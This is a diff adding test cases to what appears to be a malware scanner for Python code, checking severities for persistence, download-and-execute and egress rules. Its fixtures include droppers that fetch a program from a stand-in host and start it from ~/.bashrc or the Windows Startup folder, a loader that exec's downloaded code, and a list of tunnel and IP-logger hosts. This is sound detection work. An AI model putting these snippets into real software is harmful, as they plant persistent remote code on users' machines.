@@ -322,6 +322,20 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os, requests\ndef install(url):\n    open("/tmp/tool", "wb").write(requests.get(url).content)\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:/opt/tool")\n',
   );
   assert.notEqual(ruleOf(installer, 'persistence')?.severity, 'high');
+  // a downloaded program started from ~/.bashrc at every log-in is a dropper's persistence, even when called
+  const autostart = findings(
+    'import os, urllib.request\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/x").read()\n    open(os.path.expanduser("~/.helper"), "wb").write(data)\n    open(os.path.expanduser("~/.bashrc"), "a").write("\\n~/.helper &")\n',
+  );
+  assert.equal(ruleOf(autostart, 'persistence')?.severity, 'high');
+  // no download in the function, but the line added fetches and starts a program at every log-in (after `else`)
+  const fetchAtLogin = findings(
+    'import os\ndef colors():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("if [ -f ~/.p ]; then :; else wget https://dl.example/p -O ~/.p && chmod +x ~/.p && ~/.p & fi\\n")\n',
+  );
+  assert.equal(ruleOf(fetchAtLogin, 'persistence')?.severity, 'high');
+  const completion = findings(
+    'import os\ndef install_completion():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(\'eval "$(register-python-argcomplete tool)"\\nexport PATH="$PATH:$HOME/.local/bin"\\n\')\n',
+  );
+  assert.equal(ruleOf(completion, 'persistence')?.severity, 'low');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
@@ -506,4 +520,67 @@ test('a module setup.py loads from its file (spec_from_file_location) and calls 
   assert.equal(call?.trigger, 'install');
   assert.equal(call?.destination?.kind, 'tunnel-or-oast');
   assert.equal(call?.severity, 'critical');
+});
+
+test('code read from a response object a few assignments away from the fetch is still downloaded code (host written: high)', () => {
+  const loader = findings(
+    [
+      'import urllib.request',
+      'def main():',
+      '    response = urllib.request.urlopen("https://code.example/stage.py")',
+      '    code = response.read().decode()',
+      '    exec(compile(code, "stage.py", "exec"), {})',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(loader, 'download-execute')?.severity, 'high');
+  const userHost = findings(
+    [
+      'import urllib.request',
+      'def run_remote(url):',
+      '    response = urllib.request.urlopen(url)',
+      '    code = response.read().decode()',
+      '    exec(code, {})',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(userHost, 'download-execute')?.severity, 'medium');
+});
+
+test('an autostart place named in a function that writes a script is high even when called; naming it alone is not', () => {
+  const dropper = findings(
+    [
+      'import os',
+      'def on_boot():',
+      '    os.chdir(os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"))',
+      '    with open("job.py", "w") as f:',
+      '        f.write("print(1)")',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
+  const shortcut = findings(
+    [
+      'import os',
+      'def startup_folder():',
+      '    return os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup")',
+    ].join('\n'),
+  );
+  assert.notEqual(ruleOf(shortcut, 'persistence')?.severity, 'high');
+});
+
+test('collectors, tunnels, IP loggers and paste hosts beyond the best known are classed as such, on their subdomains too', () => {
+  const kinds = Object.fromEntries(
+    ['abc123.loca.lt', 'x.requestrepo.com', 'iplogger.org', 'ix.io', 'ifconfig.co', 'data.example.cfd'].map((host) => {
+      const call = findings(`import requests\ndef ping():\n    requests.get("https://${host}/p")\n`).find(
+        (f) => f.rule === 'egress-network-call',
+      );
+      return [host, call?.destination?.kind];
+    }),
+  );
+  assert.deepEqual(kinds, {
+    'abc123.loca.lt': 'tunnel-or-oast',
+    'x.requestrepo.com': 'tunnel-or-oast',
+    'iplogger.org': 'tunnel-or-oast',
+    'ix.io': 'paste-or-file-host',
+    'ifconfig.co': 'ip-lookup',
+    'data.example.cfd': 'suspicious-tld',
+  });
 });
